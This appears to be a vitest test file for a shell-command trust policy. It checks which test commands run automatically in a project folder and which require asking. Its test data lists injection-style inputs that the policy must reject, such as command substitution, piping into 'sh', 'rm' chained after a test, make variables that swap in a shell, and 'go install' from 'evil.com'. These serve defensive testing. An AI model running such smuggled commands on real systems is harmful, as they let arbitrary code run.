import { describe, expect, test } from 'vitest';
import { Policy } from '../../src-main/contract/mcp/policy.ts';
import { judgeCommand } from '../../src-main/policy/judgeCommand.ts';
import { judgeInShell, wordsToCheck } from '../../src-main/policy/judgeInShell.ts';
import { namesWhatRuns } from '../../src-main/policy/programs/namesWhatRuns.ts';

const FOLDER = '/home/you/project';
const RULES = [
  { argv: ['python3', '-m', 'pytest'], cwd: FOLDER, options: ['-k', '-x', '--maxfail'] },
  { argv: ['npm', 'test'], cwd: FOLDER },
  { argv: ['cargo', 'test'], cwd: FOLDER, options: ['--'] },
  { argv: ['go', 'test'], cwd: FOLDER, options: ['-run', '-race'] },
];
const policy = (more: object = {}) => Policy.parse({ exec: { trust: RULES, ...more } });

function verdict(
  cmd: string,
  { cwd = FOLDER, shell = 'bash', more = {} }: { cwd?: string | null; shell?: string; more?: object } = {},
) {
  return judgeCommand(policy(more), { cmd, shell, cwd }).verdict;
}

describe('a trust rule', () => {
  test.each([
    'python3 -m pytest',
    'python3 -m pytest tests/unit',
    "python3 -m pytest -x -q -k 'not slow' tests/test_a.py::test_b",
    'python3 -m pytest --maxfail=2 src/../tests',
    `python3 -m pytest ${FOLDER}/tests`,
    'npm test',
    'cargo test -- exact_name',
    'go test ./... -run TestOne -race',
    'npm test && cargo test',
  ])('allows %s in its folder, and asks elsewhere', (cmd) => {
    expect(verdict(cmd)).toBe('allow');
    expect(verdict(cmd, { shell: 'zsh' })).toBe('allow');
    for (const cwd of ['/home/you', '/home/you/project2', '/home/you/other', '/', null])
      expect(verdict(cmd, { cwd })).toBe('ask');
    for (const shell of ['fish', 'pwsh', '']) expect(verdict(cmd, { shell })).toBe('ask');
  });

  test('counts below its folder too, where words may lead up as far as the folder', () => {
    const cwd = `${FOLDER}/packages/one`;
    expect(verdict('python3 -m pytest ../../tests', { cwd })).toBe('allow');
    expect(verdict('python3 -m pytest ../../../other', { cwd })).toBe('ask');
  });

  test.each([
    [
      'another program',
      ['python3', 'python3 -c "import os"', 'python3 -m pip install x', 'python3.12 -m pytest', 'python -m pytest'],
    ],
    ['a name in quotes or in a folder', ["'python3' -m pytest", '/tmp/python3 -m pytest', './npm test']],
    [
      'an option that is not named',
      ['python3 -m pytest -p evil', 'python3 -m pytest --rootdir=/etc', 'npm test --prefix=x', 'go test -exec=x'],
    ],
    ['a value glued to an option', ['python3 -m pytest -kfoo', 'go test -runFoo']],
    [
      'a path out of the folder',
      [
        'python3 -m pytest /etc',
        'python3 -m pytest ../x',
        'python3 -m pytest --maxfail=../x',
        'python3 -m pytest a:/etc',
      ],
    ],
    ['a file of arguments out of the folder', ['python3 -m pytest @/etc/args', 'npm test @../x']],
    ['an address', ['npm test http://x', 'npm test git+ssh://x']],
    ['a folder of the home', ['python3 -m pytest ~/x', "python3 -m pytest '~x'"]],
    [
      'what the shell would run first',
      ['npm test $(x)', 'npm test `x`', 'FOO=1 npm test', 'npm test &', 'npm test; cd /'],
    ],
    ['what comes with it', ['npm test && rm x', 'npm test | sh', 'npm test > out']],
    ['a half of the words', ['npm', 'go', 'cargo build', 'npm t', 'npm run test']],
  ])('does not allow %s', (_, commands) => {
    expect(commands.filter((cmd) => verdict(cmd) === 'allow')).toEqual([]);
  });

  test.each([
    [
      ['make', 'test'],
      ['make test deploy', 'make test SHELL=./evil', "make test 'CC=sh -c x'", "make test 'X=$(shell x)'"],
    ],
    [['just', 'test'], ['just test deploy']],
    [['mvn', 'test'], ['mvn test deploy']],
    [['bundle', 'exec', 'rake'], ['bundle exec rake db:drop']],
    [['npm', 'install'], ['npm install evil']],
    [['uv', 'pip', 'install'], ['uv pip install evil']],
    [['go', 'install'], ['go install evil.com/x@latest']],
  ])('for %j allows these words alone, as more of them say what more is run', (argv, commands) => {
    const more = { trust: [{ argv, cwd: FOLDER, options: ['--'] }] };
    expect(commands.filter((cmd) => verdict(cmd, { more }) === 'allow')).toEqual([]);
    if (namesWhatRuns(argv)) expect(verdict(`${argv.join(' ')} -q`, { more })).toBe('allow');
  });

  test('is below every deny rule, and is asked about where the shell has other words for the program', () => {
    expect(verdict('npm test', { more: { deny: [{ argv: ['npm'] }] } })).toBe('deny');
    expect(verdict('npm test', { more: { deny: [{ raw_regex: 'test$' }] } })).toBe('deny');
    const request = { cmd: 'npm test', shell: 'bash', cwd: FOLDER };
    const words = {
      checked: new Set(['npm']),
      functions: new Set<string>(),
      aliases: new Map(),
      globals: new Set<string>(),
      suffixes: new Set<string>(),
    };
    expect(wordsToCheck(policy())).toEqual(['python3', 'npm', 'cargo', 'go']);
    expect(judgeInShell(policy(), request, words)).toMatchObject({ verdict: 'allow', rule: 'trust[1]' });
    expect(judgeInShell(policy(), request, { ...words, functions: new Set(['npm']) }).verdict).toBe('ask');
    expect(judgeInShell(policy(), request, null).verdict).toBe('ask');
  });
});

test('the words of a trust rule have to say to their end what is run', () => {
  const said = [
    'python3 -m pytest',
    'npm test',
    'npm run lint',
    'cargo test',
    'go test',
    'npx vitest',
    'uv run pytest',
    'node --test',
    'make check',
    'uv run python -m pytest',
    'bundle exec rspec',
  ];
  const open = [
    'python3 -m',
    'python3 -c',
    'python3 x.py',
    'bash -c',
    'bash x.sh',
    'sh -s',
    'env FOO=1',
    'sudo make',
    'xargs npm',
    'npx -c',
    'npx -y',
    'uv run',
    'uv run bash',
    'uv run python',
    'npm run',
    'npm exec',
    'go run',
    'node -e',
    'node x',
    'eval npm',
    'ssh host',
    'timeout 5',
    'npm -C',
    'make -f',
    'perl -e',
  ];
  expect(said.filter((words) => !namesWhatRuns(words.split(' ')))).toEqual([]);
  expect(open.filter((words) => namesWhatRuns(words.split(' ')))).toEqual([]);
});

test.each([
  [{ argv: ['npm'], cwd: '/a' }],
  [{ argv: ['npm', 'test'] }],
  [{ argv: ['npm', 'test'], cwd: 'a' }],
  [{ argv: ['npm', 'test'], cwd: '/' }],
  [{ argv: ['npm', ['test', 'run']], cwd: '/a' }],
  [{ argv: ['npm', 'test'], cwd: '/a', options: ['watch'] }],
])('%j is no trust rule', (rule) => {
  expect(Policy.safeParse({ exec: { trust: [rule] } }).success).toBe(false);
});
